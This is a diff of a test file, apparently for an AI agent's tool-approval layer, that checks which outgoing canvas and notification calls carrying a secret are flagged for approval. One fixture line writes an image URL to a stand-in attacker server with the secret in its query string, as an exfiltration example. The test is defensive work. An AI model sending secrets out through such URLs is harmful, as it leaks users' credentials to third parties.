@@ -55,9 +55,10 @@ describe('what leaves to devices and pages', () => {
       ])
         expect((await after('page', [call('canvas', args)])).asked[0]).toContain(SECRET);
       writeFileSync(bench.workspace('ui.jsonl'), `{"image":"${evil.url}/?d=${SECRET}"}\n`);
-      expect(
-        (await after('page', [call('canvas', { action: 'a2ui_push', jsonlPath: 'ui.jsonl' })])).asked[0],
-      ).toContain(SECRET);
+      // What is in it stands with the question; see sent-files.
+      expect((await after('page', [call('canvas', { action: 'a2ui_push', jsonlPath: 'ui.jsonl' })])).asked).toEqual([
+        'canvas a2ui_push: ui.jsonl',
+      ]);
       expect((await after('page', [call('nodes', { action: 'notify', body: SECRET })])).asked[0]).toContain(SECRET);
       expect(invoked).toEqual([]);
     });
